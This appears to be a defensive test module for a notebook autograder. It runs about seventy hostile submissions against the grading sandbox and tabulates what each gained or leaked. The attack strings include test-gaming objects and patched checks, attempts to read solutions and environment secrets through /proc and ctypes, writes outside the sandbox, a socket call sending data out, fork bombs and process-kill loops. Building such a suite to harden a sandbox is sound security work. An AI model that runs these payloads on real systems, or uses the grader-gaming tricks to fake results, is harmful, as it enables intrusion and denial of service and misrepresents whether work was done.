"""Submissions that want points without an answer, or harm: what each gained, what it could read or write, and who survived.

    python -m tests.grading.attacks          run them all, print the table

The exercise is task 01.2 alone, whose honest zero is 0 of 3. What an attack finds it prints; what it was after is known here: the text of a
hidden test, a secret in the grader's environment, files outside, a listener on this machine.
"""

# ruff: noqa: E501 - one attack, one line where it can be

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from labkit.errors import LabError
from labkit.grading.cage import best
from labkit.grading.judges import Judges
from labkit.grading.source import KIT

SECRET = "secret-of-the-grader-4711"
CANARIES = ("other_sizes", "500000000 4")  # a name and an input that stand in the hidden test alone
LIMITS = {
    "seconds": 20,
    "cell_seconds": 2,
    "call_seconds": 2,
    "memory": 700_000_000,
    "processes": 24,
    "output": 2_000_000,
    "file_size": 20_000_000,
}
Book = dict[str, Any]


@dataclass(frozen=True)
class Attack:
    """What a hostile submission does.

    Attributes
    ----------
    name : str
    code : str
        In the answer cell. @OUT@ is a folder outside, @KIT@ the kit, @PORT@ a listener of this machine.
    change : callable
        Of the notebook itself.
    walls : bool
        Whether it takes namespaces to stop it: elsewhere the fence (guard.py) lets it by, as `texts.ISOLATION` says.
    """

    name: str
    code: str = ""
    change: Callable[[Book], Book | str] = field(default=lambda book: book)
    walls: bool = False


@dataclass(frozen=True)
class Outcome:
    """What an attack got."""

    name: str
    gained: float
    read: str
    wrote: str
    survived: bool
    how: str
    ends: str


ANSWER = "def memory_needed(parameters, bits, kv_bytes_per_token, context_window):\n    return {}\n"

EQUAL = """
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __sub__(self, other): return 0
    __rsub__ = __truediv__ = __rtruediv__ = __add__ = __radd__ = __abs__ = __sub__
    def __float__(self): return 0.0
    def __bool__(self): return True
    def __hash__(self): return 0
"""

LOOK = """
import os
def look(path, depth=4):
    try:
        if os.path.isdir(path):
            for name in sorted(os.listdir(path))[:60]:
                if depth: look(os.path.join(path, name), depth - 1)
        else:
            text = open(path, "rb").read(300_000)
            if b"BEGIN HIDDEN" in text or b"4711" in text:
                print("FOUND", path, text.decode("utf-8", "replace")[:100_000])
    except OSError as error:
        pass
"""


def _cells(book: Book, grade_id: str) -> list[Book]:
    return [cell for cell in book["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id]


def _drop_tests(book: Book) -> Book:
    return {**book, "cells": [cell for cell in book["cells"] if not cell["metadata"].get("nbgrader", {}).get("grade")]}


def _own_test(book: Book) -> Book:
    for cell in _cells(book, "test-01-2"):
        cell["source"] = "3.0"
    return book


def _more_points(book: Book) -> Book:
    for cell in _cells(book, "test-01-2"):
        cell["metadata"]["nbgrader"]["points"] = 1000
    for cell in _cells(book, "answer-01-2"):
        cell["metadata"]["nbgrader"].update(grade=True, points=1000)
    return book


def _answer_as_markdown(book: Book) -> Book:
    for cell in _cells(book, "answer-01-2"):
        cell["cell_type"] = "markdown"
    return book


def _setup_replaced(book: Book) -> Book:
    for cell in _cells(book, "setup"):
        cell["source"] = "class lab:\n    check = staticmethod(lambda *a: 3.0)"
    return book


def _twice(book: Book) -> Book:
    second = json.loads(json.dumps(_cells(book, "answer-01-2")[0]))
    return {**book, "cells": [*book["cells"], second, second]}


def _strange_ids(book: Book) -> Book:
    extra = [
        {"cell_type": "code", "metadata": {"nbgrader": {"grade_id": name, "solution": True}}, "source": "1", "outputs": []} for name in IDS
    ]
    return {**book, "cells": [*book["cells"], *extra], "metadata": {"labkit": {"exercise": ["01"], "lang": {}, "tests": None}}}


IDS = ("../../solutions", "ansẁer-01-2\u202e", "", "x" * 100_000, None, 7)


def _no_kernelspec(book: Book) -> Book:
    return {"cells": list(reversed(book["cells"]))}


ATTACKS = [
    Attack("an object that equals everything", EQUAL + ANSWER.format("Equal()")),
    Attack("a float that compares as it likes", EQUAL.replace("class Equal:", "class Equal(float):") + ANSWER.format("Equal(1)")),
    Attack("a number that is none (NaN)", ANSWER.format("float('nan')")),
    Attack("an infinity", ANSWER.format("float('inf')")),
    Attack("a mock of everything", "from unittest.mock import MagicMock\nmemory_needed = MagicMock()"),
    Attack(
        "patches the checks in its own process",
        "from labkit.grading import parts\nparts.Trial.expect = lambda *a, **k: None\n"
        "parts.Trial.expect_type = parts.Trial.expect\n" + ANSWER.format("1"),
    ),
    Attack(
        "patches JSON", "import json\njson.dumps = lambda *a, **k: '{\"value\": true}'\njson.loads = lambda *a: {}\n" + ANSWER.format("1")
    ),
    Attack("replaces builtins", "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.type = lambda x: int\n" + ANSWER.format("1")),
    Attack("swallows tracebacks (showtraceback)", "get_ipython().showtraceback = lambda *a, **k: None\n" + ANSWER.format("1 / 0")),
    Attack(
        "drops code by an AST transformer",
        "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Expr(self, node): return ast.Pass()\n"
        "get_ipython().ast_transformers.append(Drop())\n" + ANSWER.format("1"),
    ),
    Attack(
        "drops code by an input transformer",
        "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n" + ANSWER.format("1"),
    ),
    Attack("sets its own error handler", "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n" + ANSWER.format("1")),
    Attack(
        "prints a score",
        "import json\nprint(json.dumps({'points': 14, 'of': 14, 'tasks': []}))\nprint('score: 100')\n" + ANSWER.format("1"),
    ),
    Attack(
        "writes answers into the pipe itself",
        'import os\nfor fd in range(3, 64):\n    try: os.write(fd, b\'{"id": 1, "answer": {"value": 2000000}}\\n\' * 50)\n'
        "    except OSError: pass\n" + ANSWER.format("1"),
    ),
    Attack(
        "says of its cells what no report can show",
        'import os\nfor fd in range(3, 64):\n    try: os.write(fd, b\'{"ran": true, "errors": [{"kinds": 5, "text": [[]]}, 7]}\\n\')\n'
        "    except OSError: pass\nos._exit(0)",
    ),
    Attack("raises half a sign", ANSWER.format("1 / 0").replace("return 1 / 0", "raise ValueError('bad \\ud83d')")),
    Attack("closes every pipe", "import os\nos.closerange(0, 256)\n" + ANSWER.format("1")),
    Attack(
        "returns a pickle",
        "import pickle\nclass Bomb:\n    def __reduce__(self): return (open, ('@OUT@/pickled', 'w'))\n"
        + ANSWER.format("pickle.dumps(Bomb())"),
    ),
    Attack(
        "looks at its callers",
        "import sys, gc\ndef memory_needed(*a):\n    frame = sys._getframe()\n    while frame:\n        print('FRAME', frame.f_code.co_name, list(frame.f_locals)[:20])\n"
        "        frame = frame.f_back\n    print([o for o in gc.get_objects() if isinstance(o, dict) and 'BEGIN HIDDEN' in repr(o)[:2000]][:1])\n",
    ),
    Attack("prints what hidden tests give it", "def memory_needed(*a):\n    print(*a, flush=True)\n    return 1\n"),
    Attack("calls sys.exit", ANSWER.format("__import__('sys').exit(0)")),
    Attack("calls os._exit in a cell", "import os\nos._exit(0)"),
    Attack("calls os._exit in an answer", ANSWER.format("__import__('os')._exit(0)")),
    Attack(
        "kills whom it can",
        "import os, signal\nfor pid in (os.getppid(), -1):\n    try: os.kill(pid, 9)\n    except OSError as e: print(e)\n"
        "for name in os.listdir('/proc') if os.path.isdir('/proc') else []:\n    try:\n        if name.isdigit() and int(name) > 1 and int(name) != os.getpid(): os.kill(int(name), 9)\n    except OSError: pass\n"
        + ANSWER.format("1"),
        walls=True,
    ),
    Attack("a fork bomb", "import os, time\nwhile True:\n    try: os.fork()\n    except OSError: time.sleep(0.01)"),
    Attack(
        "a thread bomb",
        "import threading, time\nfor _ in range(5000):\n    try: threading.Thread(target=time.sleep, args=(99,), daemon=True).start()\n    except RuntimeError: break\n"
        + ANSWER.format("1"),
    ),
    Attack("eats memory", "x = []\nwhile True: x.append(bytearray(50_000_000))\n"),
    Attack("eats memory at once", ANSWER.format("len(bytes(200_000_000_000))")),
    Attack("prints a gigabyte", "import os\nfor _ in range(1024): os.write(1, b'x' * 2**20)\n" + ANSWER.format("1")),
    Attack(
        "fills the disk",
        "import os\nfor n in range(100):\n    with open(f'big{n}', 'wb') as f:\n        for _ in range(1000): f.write(bytes(2**20))\n"
        + ANSWER.format("1"),
    ),
    Attack("loops for ever in a cell", "while True: pass"),
    Attack(
        "loops for ever and catches everything",
        "def memory_needed(*a):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass\n",
    ),
    Attack(
        "ignores signals and sleeps",
        "import signal, time\nfor s in range(1, 65):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n"
        + ANSWER.format("time.sleep(1000)"),
    ),
    Attack("recurses for ever", "import sys\nsys.setrecursionlimit(10**8)\ndef memory_needed(*a): return memory_needed(*a)"),
    Attack("crashes the interpreter", ANSWER.format("__import__('ctypes').string_at(0)")),
    Attack("answers with a hundred million numbers", ANSWER.format("[0] * 10**8")),
    Attack("answers with lists in lists", "def memory_needed(*a):\n    x = []\n    for _ in range(100_000): x = [x]\n    return x\n"),
    Attack("answers with a list that holds itself", "def memory_needed(*a):\n    x = []\n    x.append(x)\n    return x\n"),
    Attack("answers with an endless generator", "def memory_needed(*a):\n    while True: yield 1\n"),
    Attack(
        "reads the solutions", LOOK + "look('@KIT@/solutions')\nlook('../../solutions')\nlook('../../../solutions')\n" + ANSWER.format("1")
    ),
    Attack(
        "reads the solutions through the interpreter",
        "import linecache, runpy, zipimport, io\ntry: print(io.open_code('@KIT@/solutions/en/01_first_query.ipynb').read())\n"
        "except OSError as e: print(e)\ntry: print(''.join(linecache.getlines('@KIT@/solutions/en/01_first_query.ipynb')))\nexcept OSError as e: print(e)\n"
        + ANSWER.format("1"),
    ),
    Attack(
        "reads the solutions through C",
        "import ctypes\nlibc = ctypes.CDLL(None)\nfd = libc.open(b'@KIT@/solutions/en/01_first_query.ipynb', 0)\nb = ctypes.create_string_buffer(200_000)\n"
        "n = libc.read(fd, b, 200_000)\nprint(b.raw[:max(0, n)].decode('utf-8', 'replace'))\n" + ANSWER.format("1"),
        walls=True,
    ),
    Attack(
        "reads other processes",
        LOOK
        + "import glob\nfor p in glob.glob('/proc/[0-9]*'):\n    for name in ('environ', 'cmdline', 'cwd', 'root/tmp', 'fd'): look(p + '/' + name, 2)\n"
        "for p in glob.glob('/proc/[0-9]*/mem'):\n    try:\n        for line in open(p.replace('mem', 'maps')):\n            if 'heap' in line:\n                a, b = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "                f = open(p, 'rb'); f.seek(a); t = f.read(b - a)\n                if p != '/proc/%d/mem' % os.getpid() and b'BEGIN HIDDEN' in t: print('FOUND ' + 'other_' + 'sizes', p)\n"
        "    except (OSError, ValueError, OverflowError): pass\n" + ANSWER.format("1"),
        walls=True,
    ),
    Attack("reads the environment", "import os\nprint(dict(os.environ))\n" + ANSWER.format("1")),
    Attack(
        "reads homes and other submissions",
        LOOK + "look('@OUT@')\nlook('/root', 2)\nlook('/home', 3)\nlook('/etc', 1)\n" + ANSWER.format("1"),
        walls=True,
    ),
    Attack(
        "writes outside",
        "for path in ('@OUT@/written', '/usr/lib/written', '@KIT@/written', '../../written'):\n    try: open(path, 'w').write('x')\n    except OSError as e: print(e)\n"
        + ANSWER.format("1"),
    ),
    Attack(
        "writes into labkit and Python",
        "import labkit, os, sys\nfor path in (labkit.__file__, os.__file__, sys.executable):\n    try: open(path, 'a').close(); print('WROTE', path)\n    except OSError as e: print(e)\n"
        + ANSWER.format("1"),
        walls=True,
    ),
    Attack(
        "follows its own link outside",
        "import os\ntry:\n    os.symlink('@OUT@', 'link'); open('link/written', 'w').write('x')\nexcept OSError as e: print(e)\n"
        + ANSWER.format("1"),
    ),
    Attack(
        "reads the solutions by way of a folder",
        "import os\ntry:\n    kit = os.open('@KIT@', os.O_RDONLY)\n    print(os.fdopen(os.open('solutions/en/01_first_query.ipynb', os.O_RDONLY, dir_fd=kit)).read())\n"
        "except OSError as e: print(e)\n" + ANSWER.format("1"),
    ),
    Attack(
        "reads the solutions from a folder of its own",
        "import os\ntry:\n    here, up = os.open('.', os.O_RDONLY), os.path.relpath('@KIT@')\n    deep = '/'.join('d' * 20)\n    os.makedirs(deep)\n    os.chdir(deep)\n"
        "    print(os.fdopen(os.open(up + '/solutions/en/01_first_query.ipynb', os.O_RDONLY, dir_fd=here)).read())\nexcept OSError as e: print(e)\n"
        + ANSWER.format("1"),
    ),
    Attack(
        "moves a file outside",
        "import os\nopen('mine', 'w').write('x')\nfor move in (os.rename, os.link, os.symlink):\n    try: move('mine', '@OUT@/written')\n    except OSError as e: print(e)\n"
        + ANSWER.format("1"),
    ),
    Attack(
        "starts a process that has no fence",
        "import multiprocessing\ntry:\n    child = multiprocessing.get_context('spawn').Process(target=exec, args=(\"open('@OUT@/written', 'w').write('x')\",))\n"
        "    child.start()\n    child.join(5)\nexcept (OSError, ImportError) as e: print(e)\n" + ANSWER.format("1"),
    ),
    Attack(
        "mounts in namespaces of its own",
        "import subprocess, sys\nprint(subprocess.run(['unshare', '-Urm', 'sh', '-c', 'mount -t tmpfs none /usr && mount --bind / /mnt; ls @KIT@/solutions/en; cat @KIT@/solutions/en/*'], capture_output=True, text=True).stdout)\n"
        + ANSWER.format("1"),
    ),
    Attack(
        "calls out",
        "import socket\nfor address in (('1.1.1.1', 53), ('127.0.0.1', @PORT@)):\n    try:\n        with socket.create_connection(address, 2) as s: s.sendall(b'answers please')\n        print('SENT', address)\n    except OSError as e: print(e)\n"
        + ANSWER.format("1"),
        walls=True,
    ),
    Attack(
        "asks names",
        "import socket\ntry: print('SENT', socket.getaddrinfo('example.com', 80))\nexcept OSError as e: print(e)\n" + ANSWER.format("1"),
    ),
    Attack(
        "leaves a process behind",
        "import subprocess\nsubprocess.Popen('(setsid sleep 98765 >/dev/null 2>&1 &)', shell=True)\n" + ANSWER.format("1"),
    ),
    Attack(
        "starts a daemon",
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: os.execvp('sleep', ['sleep', '98765'])\n    os._exit(0)\n"
        + ANSWER.format("1"),
    ),
    Attack("deletes the tests", change=_drop_tests),
    Attack("writes its own test", change=_own_test),
    Attack("gives itself points in the metadata", change=_more_points),
    Attack("makes its answer a text cell", change=_answer_as_markdown),
    Attack("replaces the locked set-up cell", change=_setup_replaced),
    Attack("repeats its answer cell", ANSWER.format("1"), change=_twice),
    Attack("has cells with strange ids", change=_strange_ids),
    Attack("has no kernelspec and another order", change=_no_kernelspec),
    Attack("is no notebook", change=lambda book: "PK\x03\x04" + "0" * 1000),
    Attack("is JSON in JSON", change=lambda book: "[" * 200_000),
    Attack(
        "has cells that are none",
        change=lambda book: {**book, "cells": [None, 7, {"cell_type": "code", "source": {"a": 1}}, {"cell_type": []}, *book["cells"]]},
    ),
]


def small_source() -> str:
    """The source notebook of task 01.2 alone."""
    book = json.loads((KIT / "solutions/en/01_first_query.ipynb").read_text(encoding="utf-8"))
    wanted = ("setup-parameters", "setup", "answer-01-2", "test-01-2")
    book["cells"] = [cell for cell in book["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") in wanted]
    return json.dumps(book)


def blank_book() -> Book:
    """What a learner has before the first line is written."""
    book: Book = json.loads((KIT / "exercises/en/01_first_query.ipynb").read_text(encoding="utf-8"))
    wanted = ("setup-parameters", "setup", "answer-01-2", "test-01-2")
    book["cells"] = [cell for cell in book["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") in wanted]
    return book


@contextmanager
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """Somebody on this machine who takes calls."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    heard.append(connection.recv(100))

        threading.Thread(target=listen, daemon=True).start()
        yield server.getsockname()[1], heard
        server.shutdown(socket.SHUT_RDWR)


def left_behind() -> list[int]:
    """Processes that an attack started and that still run."""
    import psutil

    return [process.pid for process in psutil.process_iter() if "98765" in _command(process)]


def _command(process: Any) -> str:
    import psutil

    try:
        return " ".join(process.cmdline())
    except psutil.Error:
        return ""


def run(attack: Attack, source: str, judges: Judges, isolation: str = "auto") -> Outcome:
    """Grade the attack and see what it got. The judges are used again for the next ones, as `labkit grade` does."""
    with tempfile.TemporaryDirectory(prefix="labkit-outside-") as outside, listener() as (port, heard):
        os.chmod(outside, 0o777)
        Path(outside, "another_submission.txt").write_text(f"BEGIN HIDDEN {SECRET}")
        code = attack.code.replace("@OUT@", outside).replace("@KIT@", str(KIT)).replace("@PORT@", str(port))
        book = blank_book()
        if code:
            _cells(book, "answer-01-2")[0]["source"] = code
        changed = attack.change(book)
        text = changed if isinstance(changed, str) else json.dumps(changed)
        private = (str(KIT / "solutions"), outside)
        try:
            result = judges.judged(source, text, "01_first_query.ipynb", "en", limits=LIMITS, isolation=isolation, private=private)
            survived = True
        except LabError as error:
            result, survived = {"points": 0, "output": f"{error}", "isolation": "", "ends": ["judge"]}, False
        seen = [name for name, mark in (("a hidden test", "BEGIN HIDDEN"), ("a secret", SECRET)) if mark in result.get("output", "")]
        if any(canary in result.get("output", "") for canary in CANARIES):
            seen.append("a hidden test")
        written = [
            str(path)
            for path in (Path(outside, "written"), Path(outside, "pickled"), Path("/usr/lib/written"), KIT / "written")
            if path.exists()
        ]
        written += ["WROTE" * ("WROTE" in result.get("output", ""))] if "WROTE" in result.get("output", "") else []
        written += ["the network"] * bool(heard or "SENT" in result.get("output", ""))
        ends = ", ".join(result.get("ends", ()))
        return Outcome(attack.name, result["points"], ", ".join(seen), ", ".join(written), survived, result.get("isolation", ""), ends)


def run_all(isolation: str = "auto", jobs: int = 4) -> list[Outcome]:
    """Every attack, and at the end a look for processes that were left behind."""
    os.environ["LABKIT_API_KEY"] = SECRET
    source = small_source()
    try:
        with Judges() as judges, ThreadPoolExecutor(jobs) as pool:
            outcomes = list(pool.map(lambda attack: run(attack, source, judges, isolation), ATTACKS))
            texts = [source, json.dumps(blank_book())] * jobs  # what attacks left in a judge would show in what it gives honest answers
            after = [judges.judged(source, text, "01_first_query.ipynb", "en", isolation=isolation)["points"] for text in texts]
    finally:
        del os.environ["LABKIT_API_KEY"]
    time.sleep(0.5)
    left = left_behind()
    if after != [3.0, 0.0] * jobs:
        outcomes.append(Outcome("(honest answers after the attacks)", 0, "", f"points {after}", False, "", ""))
    if left:
        outcomes.append(Outcome("(processes left behind)", 0, "", f"{len(left)} processes", True, "", ""))
        subprocess.run(["kill", "-9", *map(str, left)], check=False)
    return outcomes


def main() -> int:
    start = time.monotonic()
    outcomes = run_all(sys.argv[1] if len(sys.argv) > 1 else "auto")
    print("attack | gained | could read | could write | judge survived | ended by")
    for outcome in outcomes:
        print(
            outcome.name,
            f"{outcome.gained:g}",
            outcome.read or "nothing",
            outcome.wrote or "nothing",
            "yes" if outcome.survived else "NO",
            outcome.ends or "-",
            sep=" | ",
        )
    bad = [outcome for outcome in outcomes if outcome.gained or outcome.read or outcome.wrote or not outcome.survived]
    print(f"{len(outcomes)} attacks, {len(bad)} with any gain, sight, write or harm; {best()}; {time.monotonic() - start:.0f} s")
    return int(bool(bad))


if __name__ == "__main__":
    sys.exit(main())
